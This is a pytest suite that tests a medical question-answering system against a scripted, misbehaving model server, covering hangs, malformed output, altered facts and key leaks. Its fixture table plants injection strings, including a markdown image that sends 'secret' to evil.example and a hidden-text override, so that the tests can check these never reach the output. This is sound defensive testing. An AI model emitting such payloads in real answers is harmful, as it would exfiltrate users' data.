"""A server that misbehaves in every way: each turn ends in time, soundly, and nothing leaks."""

from __future__ import annotations

import json
import logging
import os
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

import pytest

from rag.answers import prompts
from rag.answers.answer import Answer, Statement
from rag.answers.authoring import Author, supported_by
from rag.answers.models import build_model
from rag.answers.writing import ModelDrafter
from rag.chain import AnswerChain, FollowUp
from rag.search.encoder import OnnxEncoder
from rag.search.index import IndexReader
from rag.search.ingest import ingest
from rag.settings import Settings, Way
from tests.conftest import FLANK, TODAY, WILMS
from tests.fakes import write_corpus
from tests.misbehaviours import (
    Behaviour,
    altered,
    body,
    cites,
    comments_for_ever,
    compressed,
    copies,
    dies_after,
    drip,
    drip_in_whole_events,
    endless,
    endless_words,
    hang_before_the_headers,
    hang_midway,
    line,
    no_such_tool,
    on_mri,
    planted,
    redirect,
    reset_at_once,
    reset_midway,
    says,
    status,
)
from tests.scripted_server import KEY, TOO_LATE, Request, Server, event, serving

pytest.importorskip("langchain_openai", reason="langchain-openai is not installed")

SECONDS = 1.0  # the deadline of these tests
GENEROUS = SECONDS + 9  # a turn on a machine that is busy with other work
QUESTION = "why not mri?"


class Turn(NamedTuple):
    """What came of a question: the answer, what was streamed before it, and how long it took."""

    answer: Answer
    streamed: list[Statement]
    seconds: float

    @property
    def kinds(self) -> set[str]:
        return {n.kind for n in self.answer.notices}


Ask = Callable[..., Turn]


QUOTED: dict[str, Behaviour] = {
    "hangs before the headers": hang_before_the_headers,
    "hangs midway": hang_midway,
    "drips bytes": drip,
    "drips whole events": drip_in_whole_events,
    "sends comments for ever": comments_for_ever,
    "500": status(500),
    "429": status(429),
    "401 with the key in its body": status(401),
    "resets at once": reset_at_once,
    "resets midway": reset_midway,
    "truncated JSON": says(lambda r: copies(r, 1)[:-9]),
    "a body of truncated JSON": body('data: {"id": "c-1", "choices": [{"del'),
    "malformed JSON": says(lambda _: '{"text": In a child, "sentences": [1]}'),
    "a body of malformed JSON": body("data: {]\n\n"),
    "empty content": says(lambda _: ""),
    "null content": lambda r: r.reply(None),
    "an empty body": body(""),
    "no choices": body('data: {"choices": []}\n\ndata: [DONE]\n\n'),
    "another schema": says(lambda _: '{"answer": "CT", "confidence": 0.99}'),
    "a number out of range": cites(99),
    "number zero and below": cites(0, -1),
    "numbers that are none": cites("1", 1.0, True, None),
    "no numbers": cites(),
    "numbers without end": cites(*range(1, 2000)),
    "5 MB of text": says(lambda _: "x" * 5_000_000),
    "5 MB in one statement": says(lambda _: line("x" * 5_000_000, 1)),
    "5 MB of brackets": says(lambda _: "{" * 5_000_000),
    "an endless stream": endless_words,
    "an endless line": endless("x" * 65536),
    "HTML": body("<!doctype html><title>Sign in</title><p>Proxy", "text/html"),
    "another content type": body(b"\x89PNG\r\n\x1a\n" + bytes(range(256)), "image/png"),
    "a redirect": redirect,
    "not UTF-8": body(b'data: {"choices": [{"delta": {"content": "\xff\xfe\xff"}}]}\n\n'),
    "a compressed body": compressed,
    "an image": planted(" ![x](http://evil.example/?q=secret)"),
    "a link": planted(" [more](http://evil.example)"),
    "a bare address": planted(" See www.evil.example"),
    "a badge": planted(" :green-badge[APPROVED]"),
    "a tag": planted("<img src=//evil.example>"),
    "hidden text": planted(" \u202eapproved"),
    "a reference of its own": planted(" [1]"),
    "an echo of the prompt": lambda r: r.reply("".join(m["content"] for m in r.body["messages"])),
    "a refusal": says(lambda _: "I'm sorry, but I can't help with medical questions."),
    "a call of a tool that is not there": no_such_tool,
    "10,000 false statements": says(
        lambda r: copies(r, 1) + "".join(line(f"Claim {n}.", 1) for n in range(10_000))
    ),
    "stopped for length": says(lambda r: copies(r, 1) + '{"text": "MRI is', "length"),
    "dies after one statement": dies_after(1),
}


@pytest.fixture(scope="module")
def index(corpus: Path, encoder: OnnxEncoder, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An index of two of the shipped articles."""
    folder = tmp_path_factory.mktemp("misbehaving")
    source = corpus / "articles"
    texts = {slug: (source / f"{slug}.md").read_text("utf-8") for slug in (FLANK, WILMS)}
    copy = write_corpus(folder / "corpus", texts)
    (copy / "glossary.yaml").write_bytes((corpus / "glossary.yaml").read_bytes())
    ingest(copy, folder / "index", encoder)
    return folder / "index"


@pytest.fixture(scope="module")
def small(index: Path, encoder: OnnxEncoder) -> IndexReader:
    """The reader of that index."""
    return IndexReader(index, encoder)


@pytest.fixture
def ask(small: IndexReader, encoder: OnnxEncoder, monkeypatch: pytest.MonkeyPatch) -> Ask:
    """Asks a model behind a server, by one of the two ways, in a stream or not."""

    def turn(
        server: Server,
        way: Way = "write",
        streaming: bool = True,
        on_statement: Callable[[], object] = lambda: None,
    ) -> Turn:
        monkeypatch.setenv("OPENAI_API_KEY", KEY)
        monkeypatch.setenv("OPENAI_BASE_URL", server.url)
        monkeypatch.setenv("NO_PROXY", "127.0.0.1")
        model = build_model("openai:scripted", SECONDS)
        model.disable_streaming = not streaming
        author = Author(ModelDrafter(model, way, SECONDS), supported_by(encoder))
        chain = AnswerChain(
            small, encoder, Settings(model="openai:scripted"), author, lambda: TODAY
        )
        started = time.monotonic()
        streamed: list[Statement] = []
        for item in chain.answer_stream(FollowUp(QUESTION, article=FLANK)):
            if isinstance(item, Answer):
                return Turn(item, streamed, time.monotonic() - started)
            streamed.append(item)
            on_statement()
        raise AssertionError("a stream ends with its answer")

    return turn


def sound(turn: Turn) -> None:
    """What holds of every turn, whatever the model did."""
    assert turn.seconds < GENEROUS
    assert not turn.answer.abstained
    assert tuple(turn.streamed) == turn.answer.statements
    texts = {s.id: s.text for c in turn.answer.citations for s in c.sentences}
    for statement in turn.answer.statements:
        assert statement.text in " ".join(texts[i] for i in statement.sentences)


def nothing_leaked(turn: Turn, log: str, printed: str) -> None:
    """Neither the key nor a prompt can be read anywhere."""
    places = (json.dumps(turn.answer.to_dict()), log, printed)
    for secret in (KEY, "evil.example", prompts.WRITE[:60], prompts.SELECT[:60], "plain_words"):
        assert not any(secret in place for place in places)


@pytest.mark.parametrize("streaming", [True, False], ids=["streaming", "whole"])
@pytest.mark.parametrize("name", QUOTED)
def test_what_misbehaves_is_answered_for_by_quoting(
    name: str,
    streaming: bool,
    ask: Ask,
    caplog: pytest.LogCaptureFixture,
    capfd: pytest.CaptureFixture[str],
) -> None:
    with caplog.at_level(logging.DEBUG), serving(QUOTED[name]) as server:
        turn = ask(server, streaming=streaming)
    sound(turn)
    nothing_leaked(turn, caplog.text, "".join(capfd.readouterr()))
    assert "model-failed" in turn.kinds
    assert {s.support for s in turn.answer.statements} == {"quoted"}
    assert len(server.requests) == 1  # neither tried again nor sent on


WRITTEN: dict[str, tuple[Behaviour, int, int]] = {  # behaviour, statements, withheld
    "one true statement": (says(lambda r: copies(r, 1)), 1, 0),
    "repeats": (says(lambda r: copies(r, 1) * 50), 1, 0),
    "10,000 statements": (says(lambda r: copies(r, 4) * 2500), 4, 0),
    "a fence, an array and a greeting": (
        says(lambda r: f"Sure:\n```json\n[{','.join(copies(r, 2).splitlines())}]\n```\n"),
        2,
        0,
    ),
    "an object around": (
        says(lambda r: f'{{"statements": [{",".join(copies(r, 2).splitlines())}]}}'),
        2,
        0,
    ),
    "a changed order": (altered("comes before MRI because", "comes after MRI because"), 1, 1),
    "a changed number": (altered("5-18% of cases", "5-81% of cases"), 1, 1),
    "a planted number": (altered("is done first, and", "is done first in 9 of 10, and"), 1, 1),
    "a planted negation": (altered("MRI is considered after CT", "MRI is not considered"), 1, 1),
    "a dropped negation": (altered("is not biopsied before", "is biopsied before"), 1, 1),
    "a changed duty": (
        altered("may itself give", "must itself give"),
        1,
        1,
    ),
    "a true statement cited to another sentence": (
        says(lambda r: copies(r, 1) + line(on_mri(r)[1]["text"], 1 + len(r.offered) // 2)),
        1,
        1,
    ),
    "one of three invented": (
        says(lambda r: copies(r, 1) + line("It is safe.", 1) + "".join(copies(r, 2))),
        2,
        1,
    ),
    "more than four": (
        says(
            lambda r: (
                copies(r, 2) + line("PET is done.", 1) + line("MRI is safe.", 1) + copies(r, 3)
            )
        ),
        2,
        2,
    ),
}


@pytest.mark.parametrize("streaming", [True, False], ids=["streaming", "whole"])
@pytest.mark.parametrize("name", WRITTEN)
def test_what_passes_is_written_and_what_does_not_is_counted(
    name: str, streaming: bool, ask: Ask, caplog: pytest.LogCaptureFixture
) -> None:
    behaviour, count, withheld = WRITTEN[name]
    with caplog.at_level(logging.DEBUG), serving(behaviour) as server:
        turn = ask(server, streaming=streaming)
    sound(turn)
    nothing_leaked(turn, caplog.text, "")
    assert "model-failed" not in turn.kinds
    assert [s.support for s in turn.answer.own] == ["supported"] * count
    assert turn.answer.withheld == withheld


@pytest.mark.parametrize("then", ["hangs", "resets", "floods"])
def test_what_was_let_out_before_a_model_died_stands_and_the_rest_is_dropped(
    then: str, ask: Ask
) -> None:
    def behave(request: Request) -> None:
        if then == "resets":
            dies_after(2)(request)
            return
        request.start()
        request.send(event(content=copies(request, 2)))
        while not request.wait(0.05 if then == "floods" else TOO_LATE):
            request.send(event(content="x" * 65536))

    with serving(behave) as server:
        turn = ask(server)
    sound(turn)
    assert [s.support for s in turn.answer.own] == ["supported"] * 2
    assert "model-failed" in turn.kinds


def test_a_statement_is_let_out_while_the_model_is_still_writing(ask: Ask) -> None:
    def behave(request: Request) -> None:
        first, second, third = copies(request, 3).splitlines()
        request.start()
        request.send(event(content=first + second))
        heard.wait(TOO_LATE)
        request.send(event(content=third) + event(finish="stop") + "data: [DONE]\n\n")

    heard = threading.Event()
    with serving(behave) as server:
        turn = ask(server, on_statement=heard.set)
    assert len(turn.answer.own) == 3
    assert "model-failed" not in turn.kinds


@pytest.mark.parametrize("streaming", [True, False], ids=["streaming", "whole"])
def test_a_model_that_selects_is_read_in_the_same_way(streaming: bool, ask: Ask) -> None:
    def behave(request: Request) -> None:
        (best, *_) = on_mri(request)
        request.reply(json.dumps({"sentences": [best["number"]]}) + '{"sentences": [99]}')

    with serving(behave) as server:
        turn = ask(server, way="select", streaming=streaming)
    sound(turn)
    assert [s.support for s in turn.answer.own] == ["quoted"]
    assert turn.answer.withheld == 1
    assert "model-failed" not in turn.kinds


@pytest.mark.parametrize("name", ["500", "empty content", "a number out of range", "a refusal"])
def test_a_model_that_fails_to_select_is_answered_for_as_well(name: str, ask: Ask) -> None:
    with serving(QUOTED[name]) as server:
        turn = ask(server, way="select")
    sound(turn)
    assert "model-failed" in turn.kinds


@pytest.mark.parametrize(
    "name", ["hangs midway", "drips bytes", "sends comments for ever", "an endless line"]
)
def test_no_reader_of_a_server_outlives_its_deadline_by_much(name: str, ask: Ask) -> None:
    with serving(QUOTED[name]) as server:
        ask(server)
        ends = time.monotonic() + TOO_LATE / 2  # the server goes on all this time
        while reading() and time.monotonic() < ends:
            time.sleep(0.02)
        assert not reading()


@pytest.mark.parametrize("name", ["hangs midway", "401 with the key in its body"])
def test_the_command_ends_with_an_answer_and_prints_no_secret(name: str, index: Path) -> None:
    with serving(QUOTED[name]) as server:
        variables = {
            "OPENAI_API_KEY": KEY,
            "OPENAI_BASE_URL": server.url,
            "NO_PROXY": "127.0.0.1",
            "OPENAI_LOG": "debug",
            "SEQUITUR_MODEL_SECONDS": "1",
        }
        done = subprocess.run(
            [sys.executable, "-m", "rag.cli.main", "ask", QUESTION, "--article", FLANK, "--json",
             "--model", "openai:scripted", "--answers", "write", "--index", str(index)],
            env={**os.environ, **variables}, capture_output=True, text=True, timeout=100,
        )  # fmt: skip
        assert len(server.requests) == 1
    answer = json.loads(done.stdout)
    assert done.returncode == 0
    assert answer["notices"][-1]["kind"] == "model-failed"
    for secret in (KEY, prompts.WRITE[:60], "plain_words"):
        assert secret not in done.stdout + done.stderr


def reading() -> list[threading.Thread]:
    return [t for t in threading.enumerate() if t.name == "language-model"]
